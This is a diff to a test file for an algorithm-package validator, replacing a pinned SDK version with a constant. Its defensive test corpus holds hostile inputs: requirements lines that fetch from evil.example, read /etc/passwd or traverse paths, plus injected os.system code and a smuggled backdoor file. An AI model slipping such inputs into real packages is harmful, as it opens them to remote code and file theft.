@@ -17,7 +17,7 @@ import { zipChecks } from "../../src/validate/zip-checks.js";
 import { runCli } from "../helpers/cli.js";
 import { deflated, forgePackage, forgeZip, stored, type Forged } from "../helpers/forge-zip.js";
 import { testPython } from "../helpers/python.js";
-import { realWheels } from "../helpers/store.js";
+import { realWheels, SDK_VERSION } from "../helpers/store.js";
 
 // Everything this file writes, including what the code under test puts in os.tmpdir(), lands in `sandbox`: the
 // snapshot of it before and after each case is the proof that nothing escaped. (Each vitest file runs in a process of
@@ -35,7 +35,8 @@ const CASE_RSS_LIMIT = 256 * 1024 * 1024;
 
 // ---- a complete, valid package the cases are variations of ------------------------------------------------------
 
-const SDK_WHEEL = "wheels/procvision_algorithm_sdk-0.1.0-py3-none-any.whl";
+const SDK_WHEEL = `wheels/procvision_algorithm_sdk-${SDK_VERSION}-py3-none-any.whl`;
+const SDK_PIN = `procvision_algorithm_sdk==${SDK_VERSION}\n`;
 const manifestOf = (over: Record<string, unknown> = {}): string => JSON.stringify({
   name: "hostile", version: "1.0", entry_point: "hostile_algo.main:Algo", supported_pids: ["p1"],
   steps: [{ index: 1, name: "check", params: [] }], ...over,
@@ -63,7 +64,7 @@ function baseFiles(over: Record<string, string | Buffer | null> = {}): Record<st
     "manifest.json": manifestOf(),
     "hostile_algo/__init__.py": "",
     "hostile_algo/main.py": MAIN_PY,
-    "requirements.txt": "procvision_algorithm_sdk==0.1.0\n",
+    "requirements.txt": SDK_PIN,
     [SDK_WHEEL]: sdkWheel,
     ...over,
   };
@@ -157,17 +158,17 @@ const corpus: HostileCase[] = [
   { family: "manifest", title: "manifest nested 500,000 deep (parser stack)", bytes: () => pkg({ "manifest.json": "[".repeat(500_000) }), code: "2002", message: /not valid JSON/ },
   { family: "manifest", title: "oversized manifest (2 MiB of valid JSON)", bytes: () => pkg({ "manifest.json": manifestOf({ description: randomBytes(1536 * 1024).toString("base64") }) }), code: "2002", message: /more than the 1048576 allowed/ },
   // wheels
-  { family: "wheels", title: "wheel named procvision_algorithm_sdk 0.1.0 whose METADATA says evil 6.6.6", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.name }), code: "2004", message: /procvision_algorithm_sdk-0\.1\.0-py3-none-any\.whl is named procvision_algorithm_sdk 0\.1\.0 but its METADATA says evil 6\.6\.6/, check: "zip_wheels" },
+  { family: "wheels", title: "wheel named procvision_algorithm_sdk 0.1.0 whose METADATA says evil 6.6.6", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.name }), code: "2004", message: new RegExp(`procvision_algorithm_sdk-${SDK_VERSION.replaceAll(".", "\\.")}-py3-none-any\\.whl is named procvision_algorithm_sdk ${SDK_VERSION.replaceAll(".", "\\.")} but its METADATA says evil 6\\.6\\.6`), check: "zip_wheels" },
   { family: "wheels", title: "wheel whose METADATA has another version", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.version }), code: "2004", message: /METADATA says procvision_algorithm_sdk 9\.9\.9/, check: "zip_wheels" },
   { family: "wheels", title: "a .whl that is not a zip", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.notZip }), code: "2001", message: /is not a readable wheel/, check: "zip_wheels" },
   { family: "wheels", title: "a wheel without METADATA", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.noMetadata }), code: "2004", message: /has no \*\.dist-info\/METADATA/, check: "zip_wheels" },
-  { family: "wheels", title: "requirement without a wheel", bytes: () => pkg({ "requirements.txt": "procvision_algorithm_sdk==0.1.0\nnumpy==2.2.6\n" }), code: "2004", message: /no wheel for numpy==2\.2\.6/ },
+  { family: "wheels", title: "requirement without a wheel", bytes: () => pkg({ "requirements.txt": SDK_PIN + "numpy==2.2.6\n" }), code: "2004", message: /no wheel for numpy==2\.2\.6/ },
   // requirements that point elsewhere
-  { family: "requirements", title: "requirement with an https URL", bytes: () => pkg({ "requirements.txt": "procvision_algorithm_sdk==0.1.0\nevil @ https://evil.example/evil-1.0-py3-none-any.whl\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned", checkMessage: /not pinned to one version: evil @/ },
-  { family: "requirements", title: "requirement with a file:// URL", bytes: () => pkg({ "requirements.txt": "procvision_algorithm_sdk==0.1.0\nevil @ file:///etc/passwd\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned", checkMessage: /not pinned to one version: evil @/ },
-  { family: "requirements", title: "editable -e git+https", bytes: () => pkg({ "requirements.txt": "procvision_algorithm_sdk==0.1.0\n-e git+https://evil.example/x.git#egg=x\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-e git\+https/, check: "zip_requirements", checkMessage: /line 2 "-e git\+https/ },
-  { family: "requirements", title: "nested -r file", bytes: () => pkg({ "requirements.txt": "procvision_algorithm_sdk==0.1.0\n-r /etc/passwd\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-r/, check: "zip_requirements", checkMessage: /line 2 "-r \/etc\/passwd"/ },
-  { family: "requirements", title: "local path requirement", bytes: () => pkg({ "requirements.txt": "procvision_algorithm_sdk==0.1.0\n../../outside/pkg\n" }), code: "2004", message: /is a path or URL/, check: "zip_requirements", checkMessage: /line 2 "\.\.\/\.\.\/outside\/pkg"/ },
+  { family: "requirements", title: "requirement with an https URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ https://evil.example/evil-1.0-py3-none-any.whl\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned", checkMessage: /not pinned to one version: evil @/ },
+  { family: "requirements", title: "requirement with a file:// URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ file:///etc/passwd\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned", checkMessage: /not pinned to one version: evil @/ },
+  { family: "requirements", title: "editable -e git+https", bytes: () => pkg({ "requirements.txt": SDK_PIN + "-e git+https://evil.example/x.git#egg=x\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-e git\+https/, check: "zip_requirements", checkMessage: /line 2 "-e git\+https/ },
+  { family: "requirements", title: "nested -r file", bytes: () => pkg({ "requirements.txt": SDK_PIN + "-r /etc/passwd\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-r/, check: "zip_requirements", checkMessage: /line 2 "-r \/etc\/passwd"/ },
+  { family: "requirements", title: "local path requirement", bytes: () => pkg({ "requirements.txt": SDK_PIN + "../../outside/pkg\n" }), code: "2004", message: /is a path or URL/, check: "zip_requirements", checkMessage: /line 2 "\.\.\/\.\.\/outside\/pkg"/ },
   // integrity
   { family: "integrity", title: "file changed after packaging", bytes: () => withSums(baseFiles(), (p, c) => (p === MAIN ? deflated(p, `${MAIN_PY}\nimport os; os.system("id")\n`) : stored(p, c))), code: "2008", message: /hostile_algo\/main\.py \(mismatch\)/ },
   { family: "integrity", title: "file smuggled in after packaging", bytes: () => pkg({}, [stored("hostile_algo/backdoor.py", "import os\n")]), code: "2008", message: /hostile_algo\/backdoor\.py \(missing from sums\)/ },
@@ -320,7 +321,7 @@ describe("control", () => {
   it("the base package with its numpy wheel installs (the refusals above are not a broken installer)", async () => {
     const numpy = realWheels().numpy;
     const file = path.join(inbox, "control-offline.zip");
-    writeFileSync(file, pkg({ "requirements.txt": "numpy==2.2.6\nprocvision_algorithm_sdk==0.1.0\n", [`wheels/${path.basename(numpy)}`]: readFileSync(numpy) }));
+    writeFileSync(file, pkg({ "requirements.txt": "numpy==2.2.6\n" + SDK_PIN, [`wheels/${path.basename(numpy)}`]: readFileSync(numpy) }));
     const result = await runner.install(file);
     expect(result).toMatchObject({ name: "hostile", version: "1.0", state: "installed" });
   }, 180_000);
